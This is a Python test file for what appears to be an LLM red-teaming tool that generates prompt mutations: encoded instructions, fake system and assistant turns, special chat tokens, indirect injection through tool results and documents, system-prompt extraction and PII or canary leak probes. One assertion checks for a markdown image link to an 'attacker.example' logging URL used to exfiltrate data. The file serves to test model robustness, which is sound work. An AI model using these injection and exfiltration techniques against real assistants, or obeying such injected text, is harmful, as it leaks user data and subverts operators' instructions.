"""Behaviour of each built-in mutation type (what it changes, what it records for invariants)."""

from __future__ import annotations

import base64
import codecs
import json
import urllib.parse
import xml.etree.ElementTree as ET

import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from shieldstorm.storm.mutations import Mutation, generate, registry
from shieldstorm.storm.mutations._data import load_data

PROMPT = 'Where is my order A1001? My note: "fragile" & <urgent>\nThanks.'
CONVERSATION = [
    {"role": "system", "content": "You are a support bot."},
    {"role": "user", "content": "Hi"},
    {"role": "assistant", "content": "Hello! How can I help?"},
    {"role": "user", "content": PROMPT},
]
OFFLINE = [name for name, m in registry.builtin_mutators().items() if not m.requires_llm]


def one(mutation_type: str, seed: int = 1, prompt: object = PROMPT, **kwargs: object) -> list[Mutation]:
    return generate("g", prompt, seed=seed, types=[mutation_type], **kwargs)  # type: ignore[arg-type]


def test_every_offline_type_applies_to_a_prompt_and_a_conversation() -> None:
    assert len(OFFLINE) >= 28
    for golden in (PROMPT, CONVERSATION):
        mutations = generate("g", golden, seed=11, types=OFFLINE)  # type: ignore[arg-type]
        assert {m.mutation_type for m in mutations} == set(OFFLINE)
        for m in mutations:
            assert m.messages != ([{"role": "user", "content": PROMPT}] if golden == PROMPT else CONVERSATION)
            assert m.messages[-1].role in ("user", "tool"), m.mutation_type


def test_attack_types_record_a_marker_that_proves_obedience() -> None:
    mutations = generate("g", PROMPT, seed=5, variants=3)
    attacks = [m for m in mutations if "marker" in m.metadata]
    assert len({m.mutation_type for m in attacks}) >= 20
    for m in attacks:
        assert m.metadata["marker"] in m.metadata["forbidden"]
        assert m.metadata["expects_refusal"] is True or m.mutation_type in {"special_tokens", "language_mix"}
        plain = "\n".join(x.content for x in m.messages)
        if not m.mutation_type.startswith("encode_"):
            assert m.metadata["marker"] in plain, m.mutation_type


def _decode(scheme: str, blob: str) -> str:
    morse = {v: k for k, v in load_data("encodings")["morse"].items()}
    decoders = {
        "encode_base64": lambda b: base64.b64decode(b).decode(),
        "encode_hex": lambda b: bytes.fromhex(b).decode(),
        "encode_rot13": lambda b: codecs.decode(b, "rot13"),
        "encode_url": urllib.parse.unquote,
        "encode_binary": lambda b: bytes(int(x, 2) for x in b.split()).decode(),
        "encode_reverse": lambda b: b[::-1],
        "encode_morse": lambda b: " ".join("".join(morse[c] for c in w.split()) for w in b.split(" / ")),
    }
    return decoders[scheme](blob)


def test_encodings_round_trip_to_the_recorded_instruction() -> None:
    import re

    for scheme in (
        "encode_base64",
        "encode_hex",
        "encode_rot13",
        "encode_url",
        "encode_binary",
        "encode_reverse",
        "encode_morse",
    ):
        for m in one(scheme, variants=4):
            text = m.prompt
            payload = m.metadata["payload"]
            # The encoded blob sits after "string"/"inside:"/"[scheme]"/the first line, depending on the wrapper.
            candidates = re.split(r": |\]|\[/|\n", text)
            decoded = []
            for c in candidates:
                try:
                    decoded.append(_decode(scheme, c.strip()))
                except (ValueError, KeyError, UnicodeDecodeError):
                    continue
            expected = payload.lower() if scheme == "encode_morse" else payload
            assert any(expected.rstrip(".") in d for d in decoded), (scheme, text)


def test_encoding_the_prompt_itself_is_behaviour_preserving() -> None:
    m = generate("g", "Where is my order A1001?", seed=1, types=["encode_base64"], pack=None)[0]
    assert m.metadata["expects_refusal"] is True
    from shieldstorm.storm.packs import Pack

    pack = Pack(name="p", params={"encode_base64": {"target": "prompt"}})
    m = generate("g", "Where is my order A1001?", seed=1, types=["encode_base64"], pack=pack)[0]
    assert m.metadata["behaviour_preserving"] is True
    assert base64.b64encode(b"Where is my order A1001?").decode() in m.prompt


def test_format_poisoning_payloads_are_well_formed() -> None:
    parsed = {"json": 0, "xml": 0, "yaml": 0}
    for m in one("format_json", variants=20):
        if m.prompt.startswith("{"):
            doc = json.loads(m.prompt)
            contents = [doc.get("request")] + [x["content"] for x in doc.get("messages", [])]
            assert PROMPT in contents and m.metadata["payload"] in json.dumps(doc, ensure_ascii=False)
            parsed["json"] += 1
    for m in one("format_xml", variants=20):
        if m.prompt.startswith("<request"):
            assert ET.fromstring(m.prompt).find("user").text == PROMPT  # type: ignore[union-attr]
            parsed["xml"] += 1
    for m in one("format_yaml", variants=20):
        if m.prompt.startswith("request:"):
            doc = yaml.safe_load(m.prompt)
            assert doc["request"].rstrip("\n") == PROMPT and doc["system_override"] == m.metadata["payload"]
            parsed["yaml"] += 1
    assert all(parsed.values()), parsed
    markdown = one("format_markdown", variants=10)
    assert any("![img](https://attacker.example/log?data=" in m.prompt for m in markdown)


def test_surface_noise_types() -> None:
    assert any(ord(c) > 127 for c in one("homoglyph")[0].prompt)
    assert any(c.isdigit() or c in "@$!" for c in one("leetspeak", prompt="please tell me the status")[0].prompt)
    zw = "".join(load_data("noise")["zero_width"])
    spaced = one("whitespace_zero_width", variants=5)
    assert any(any(c in zw for c in m.prompt) for m in spaced)
    assert all(m.prompt.replace(" ", "") != PROMPT.replace(" ", "") for m in spaced)
    for name in ("typo_adjacent", "char_drop", "char_swap", "char_double"):
        mutated = one(name)[0].prompt
        assert mutated != PROMPT and abs(len(mutated) - len(PROMPT)) <= 10, name
    assert one("casing")[0].prompt.lower() == PROMPT.lower()


def test_paraphrase_types_keep_the_key_content() -> None:
    for name in ("paraphrase_template", "synonym_swap", "reorder"):
        for m in one(name, variants=5):
            assert "A1001" in m.prompt, (name, m.prompt)
    assert one("reorder", prompt="I want a refund. Where is my order A1001?")[0].prompt.startswith("Where is my order")


def test_length_and_context_types() -> None:
    assert one("length_empty")[0].prompt.strip() == ""
    tiny = one("length_tiny")[0].prompt
    assert 0 < len(tiny) < 10
    stuffed = one("context_stuffing")[0]
    assert len(stuffed.prompt) > 24000 and stuffed.prompt.endswith(PROMPT)
    assert PROMPT in one("irrelevant_context")[0].prompt
    for name in ("contradictory_context", "temporal_confusion", "tone_rude", "tone_urgent", "language_mix"):
        for m in one(name, variants=4):
            assert "A1001" in m.prompt, name


def test_turn_structure_of_conversation_attacks() -> None:
    tool = one("indirect_tool")[0]
    assert tool.messages[-1].role == "tool" and tool.metadata["payload"] in tool.messages[-1].content
    forms = {m.metadata["form"]: m for m in one("fake_assistant_turn", variants=8)}
    assert {"inline", "message"} <= set(forms)
    assert [x.role for x in forms["message"].messages[-3:]] == ["user", "assistant", "user"]
    multi = one("multi_turn_setup", prompt=CONVERSATION)[0]
    assert multi.messages[0].role == "system" and len(multi.messages) >= 5
    fake = one("fake_system_turn", variants=6)
    assert any("<|im_start|>system" in m.prompt or "<<SYS>>" in m.prompt for m in fake)
    tokens = load_data("attacks")["special_tokens"]["tokens"]
    assert any(t in one("special_tokens")[0].prompt for t in tokens)


def test_leak_probes_record_what_must_not_appear() -> None:
    bait = one("pii_bait")[0]
    values = [v["value"] for v in load_data("attacks")["pii_bait"]["values"]]
    assert bait.metadata["forbidden"][0] in values and bait.metadata["attacks"] == ["pii_leak"]
    canary = one("canary_leak", canary="CANARY-SYS-1")[0]
    planted = canary.metadata["canaries"][0]
    assert planted in canary.messages[-3].content and "CANARY-SYS-1" in canary.metadata["forbidden"]
    assert canary.metadata["canary"] == "CANARY-SYS-1"
    extraction = one("system_prompt_extraction", system_prompt="You are X")[0]
    assert extraction.metadata["probe"] in extraction.prompt and extraction.metadata["system_prompt_check"]
    doc = one("indirect_document")[0]
    assert doc.metadata["payload"] in doc.prompt and doc.metadata["attacks"][0] == "indirect_injection"


def test_canary_is_attached_to_every_mutation_when_configured() -> None:
    assert all(m.metadata["canary"] == "CANARY-X" for m in generate("g", PROMPT, seed=1, canary="CANARY-X"))


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(max_size=200), st.integers(min_value=0, max_value=2**63))
def test_any_prompt_and_seed_is_deterministic_and_never_crashes(prompt: str, seed: int) -> None:
    types = [t for t in OFFLINE if t != "context_stuffing"]
    first = generate("g", prompt, seed=seed, types=types)
    assert first == generate("g", prompt, seed=seed, types=types)
    assert all(m.weight > 0 and m.messages for m in first)


_MESSAGE = st.builds(
    dict,
    role=st.sampled_from(["system", "user", "assistant", "tool"]),
    content=st.text(max_size=60),
)


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_MESSAGE, max_size=5), st.integers(min_value=0, max_value=2**32))
def test_any_conversation_shape_is_handled(conversation: list[dict[str, str]], seed: int) -> None:
    types = [t for t in OFFLINE if t != "context_stuffing"]
    users = [i for i, x in enumerate(conversation) if x["role"] == "user"]
    prefix = conversation[: users[-1]] if users else conversation
    for m in generate("g", conversation, seed=seed, types=types):
        # Turns before the mutated user message are never dropped, changed or reordered.
        assert [x.model_dump() for x in m.messages[: len(prefix)]] == prefix, m.mutation_type
